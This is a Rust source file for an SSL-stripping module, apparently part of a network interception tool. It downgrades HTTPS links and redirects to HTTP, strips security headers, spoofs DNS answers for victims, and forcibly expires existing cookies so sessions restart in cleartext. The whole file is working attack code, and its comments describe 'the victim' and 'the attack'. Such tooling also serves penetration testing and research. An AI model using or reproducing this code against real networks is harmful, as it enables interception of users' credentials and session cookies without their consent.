//! SSL stripper
//!
//! Ties the trackers and rewrite helpers into the two proxy filter hooks,
//! plus a raw DNS sniffer that counter-spoofs queries for hosts this
//! stripper has downgraded. One stripper instance is shared between the
//! HTTP and HTTPS proxy instances so both sides see the same tracking state.

use std::net::IpAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

use bytes::Bytes;
use http::header::{CONNECTION, CONTENT_LENGTH, CONTENT_TYPE, COOKIE, HOST, LOCATION, SET_COOKIE};
use http::uri::{Authority, PathAndQuery, Scheme, Uri};
use http::{HeaderValue, Method, Request, Response, StatusCode};
use tracing::{debug, info, warn};
use trust_dns_proto::op::MessageType;
use url::Url;

use crate::capture::{CaptureError, PacketSource};
use crate::context::InterceptContext;
use crate::dns::responder::{decode_dns_frame, DnsResponder, SpoofAnswer};
use crate::strip::cookies::CookieTracker;
use crate::strip::hosts::HostTracker;
use crate::strip::rewrite::{
    ascii_hostname, expired_cookie_headers, fix_set_cookies, registrable_domain,
    rewrite_https_links, set_permissive_cors, strip_security_headers,
};

/// How often the sniffer thread re-checks its stop flag.
const CAPTURE_POLL: Duration = Duration::from_millis(200);

pub struct SslStripper {
    ctx: InterceptContext,
    responder: DnsResponder,
    hosts: HostTracker,
    cookies: CookieTracker,
    sniffing: AtomicBool,
    sniffer: Mutex<Option<JoinHandle<()>>>,
}

impl SslStripper {
    pub fn new(ctx: InterceptContext) -> Self {
        let responder = DnsResponder::new(ctx.interface.clone(), Arc::clone(&ctx.packet_sink));
        Self {
            ctx,
            responder,
            hosts: HostTracker::new(),
            cookies: CookieTracker::new(),
            sniffing: AtomicBool::new(false),
            sniffer: Mutex::new(None),
        }
    }

    pub fn hosts(&self) -> &HostTracker {
        &self.hosts
    }

    pub fn is_enabled(&self) -> bool {
        self.sniffing.load(Ordering::SeqCst)
    }

    /// Start the counter-spoof DNS sniffer on `source`. A second call while
    /// the sniffer runs is a no-op.
    pub fn enable(self: &Arc<Self>, mut source: Box<dyn PacketSource>) {
        if self.sniffing.swap(true, Ordering::SeqCst) {
            debug!("Stripper sniffer already running");
            return;
        }

        info!("SSL stripper enabled");
        let me = Arc::clone(self);
        let handle = std::thread::spawn(move || {
            while me.sniffing.load(Ordering::SeqCst) {
                match source.next_frame(CAPTURE_POLL) {
                    Ok(Some(frame)) => me.handle_sniffed_frame(&frame),
                    Ok(None) => {}
                    Err(CaptureError::Closed) => break,
                    Err(e) => warn!(error = %e, "Sniffer read failed"),
                }
            }
            debug!("Stripper sniffer stopped");
        });
        *self.sniffer.lock().unwrap_or_else(|e| e.into_inner()) = Some(handle);
    }

    /// Stop the sniffer and wait for its thread to exit.
    pub fn disable(&self) {
        if !self.sniffing.swap(false, Ordering::SeqCst) {
            return;
        }
        if let Some(handle) = self
            .sniffer
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .take()
        {
            let _ = handle.join();
        }
        info!("SSL stripper disabled");
    }

    /// Answer a captured DNS query for a host this stripper downgraded, so
    /// the victim's resolver agrees with the rewritten links. Queries for
    /// untracked names pass untouched.
    pub fn handle_sniffed_frame(&self, frame: &[u8]) {
        let Some(captured) = decode_dns_frame(frame) else {
            return;
        };
        let message = &captured.message;
        if message.message_type() != MessageType::Query || !message.answers().is_empty() {
            return;
        }

        for question in message.queries() {
            let name = question.name().to_utf8();
            let Some(record) = self.hosts.find_by_downgraded(&name) else {
                continue;
            };
            let Some(address) = record.current_addr() else {
                debug!(host = %name, "Downgraded host still resolving, letting the query through");
                continue;
            };

            info!(
                host = %name,
                address = %address,
                client = %self.ctx.who(captured.src_mac),
                "Counter-spoofing query for downgraded host"
            );
            if let Err(e) = self.responder.respond(frame, SpoofAnswer::Address(address)) {
                warn!(host = %name, error = %e, "Counter-spoof reply failed");
            }
            return;
        }
    }

    /// Inbound hook. Unwinds requests for downgraded hosts back to their
    /// HTTPS origin, then forces a one-time cookie expiry per (client,
    /// domain) so sessions established before the attack restart in the
    /// clear. Returns a response to short-circuit with, if any.
    pub fn preprocess_request(
        &self,
        req: &mut Request<Bytes>,
        client: IpAddr,
    ) -> Option<Response<Bytes>> {
        let mut host = request_host(req)?;

        if let Some(record) = self.hosts.find_by_downgraded(&host) {
            debug!(
                downgraded = %host,
                original = %record.original(),
                "Unwinding request to HTTPS origin"
            );
            upgrade_request(req, record.original());
            host = record.original().to_string();
        }

        if req.method() == Method::GET {
            if let Some(cookie_header) = req
                .headers()
                .get(COOKIE)
                .and_then(|v| v.to_str().ok())
                .map(str::to_string)
            {
                let domain = registrable_domain(&host);
                if self.cookies.is_clean(client, &domain) {
                    info!(client = %client, domain = %domain, "Expiring pre-attack cookies");
                    self.cookies.track(client, &domain);
                    return Some(cookie_expiry_redirect(req, &cookie_header, &domain, &host));
                }
            }
        }

        None
    }

    /// Outbound hook. Strips the headers that would let the browser undo
    /// the downgrade, rewrites HTTPS redirects and links to HTTP, and
    /// tracks every hostname it downgrades.
    pub fn process_response(&self, req: &Request<Bytes>, res: &mut Response<Bytes>) {
        strip_security_headers(res.headers_mut());
        set_permissive_cors(res.headers_mut());

        if res.status().is_redirection() {
            self.downgrade_redirect(req, res);
        }

        if !is_rewritable(res) {
            return;
        }

        let body = String::from_utf8_lossy(res.body()).into_owned();
        let (rewritten, downgraded_hosts) = rewrite_https_links(&body);
        if downgraded_hosts.is_empty() {
            return;
        }

        debug!(hosts = downgraded_hosts.len(), "Downgraded links in response body");
        for host in &downgraded_hosts {
            self.hosts.track(host, &ascii_hostname(host));
        }

        if let Some(request_host) = request_host(req) {
            fix_set_cookies(res.headers_mut(), &registrable_domain(&request_host));
        }

        *res.body_mut() = Bytes::from(rewritten);
        let length = res.body().len();
        res.headers_mut()
            .insert(CONTENT_LENGTH, HeaderValue::from(length));
    }

    /// Rewrite an `https://` Location to `http://`, but only when the victim
    /// side of this exchange is already plain HTTP; on the HTTPS instance a
    /// secure redirect stays secure.
    fn downgrade_redirect(&self, req: &Request<Bytes>, res: &mut Response<Bytes>) {
        if req.uri().scheme_str().unwrap_or("http") != "http" {
            return;
        }
        let Some(location) = res
            .headers()
            .get(LOCATION)
            .and_then(|v| v.to_str().ok())
            .map(str::to_string)
        else {
            return;
        };
        let Ok(mut url) = Url::parse(&location) else {
            return;
        };
        if url.scheme() != "https" {
            return;
        }
        let Some(original) = url.host_str().map(str::to_string) else {
            return;
        };

        if url.set_scheme("http").is_err() {
            return;
        }
        let Ok(value) = HeaderValue::from_str(url.as_str()) else {
            return;
        };

        debug!(host = %original, "Downgrading HTTPS redirect");
        self.hosts.track(&original, &ascii_hostname(&original));
        res.headers_mut().insert(LOCATION, value);
    }
}

impl Drop for SslStripper {
    fn drop(&mut self) {
        self.sniffing.store(false, Ordering::SeqCst);
    }
}

/// Hostname the request addresses, without any port.
fn request_host(req: &Request<Bytes>) -> Option<String> {
    if let Some(host) = req.uri().host() {
        return Some(host.to_lowercase());
    }
    req.headers()
        .get(HOST)
        .and_then(|v| v.to_str().ok())
        .map(|h| h.split(':').next().unwrap_or(h).to_lowercase())
}

/// Point `req` back at `https://original_host`, keeping path and query.
fn upgrade_request(req: &mut Request<Bytes>, original_host: &str) {
    let mut parts = req.uri().clone().into_parts();
    parts.scheme = Some(Scheme::HTTPS);
    match Authority::try_from(original_host) {
        Ok(authority) => parts.authority = Some(authority),
        Err(e) => {
            debug!(host = %original_host, error = %e, "Unusable origin hostname, keeping request as-is");
            return;
        }
    }
    if parts.path_and_query.is_none() {
        parts.path_and_query = Some(PathAndQuery::from_static("/"));
    }

    if let Ok(uri) = Uri::from_parts(parts) {
        *req.uri_mut() = uri;
    }
    if let Ok(value) = HeaderValue::from_str(original_host) {
        req.headers_mut().insert(HOST, value);
    }
}

/// Redirect back to the same URL with every presented cookie expired, for
/// both the registrable domain and the exact host.
fn cookie_expiry_redirect(
    req: &Request<Bytes>,
    cookie_header: &str,
    domain: &str,
    host: &str,
) -> Response<Bytes> {
    let mut builder = Response::builder()
        .status(StatusCode::FOUND)
        .header(LOCATION, req.uri().to_string())
        .header(CONNECTION, "close");

    for line in expired_cookie_headers(cookie_header, domain, host) {
        builder = builder.header(SET_COOKIE, line);
    }

    builder.body(Bytes::new()).unwrap_or_else(|e| {
        debug!(error = %e, "Redirect build failed, passing request through");
        Response::new(Bytes::new())
    })
}

/// Only textual payloads get link rewriting.
fn is_rewritable(res: &Response<Bytes>) -> bool {
    let Some(content_type) = res
        .headers()
        .get(CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
    else {
        return false;
    };
    content_type.starts_with("text/")
        || content_type.contains("javascript")
        || content_type.contains("json")
        || content_type.contains("xhtml")
}
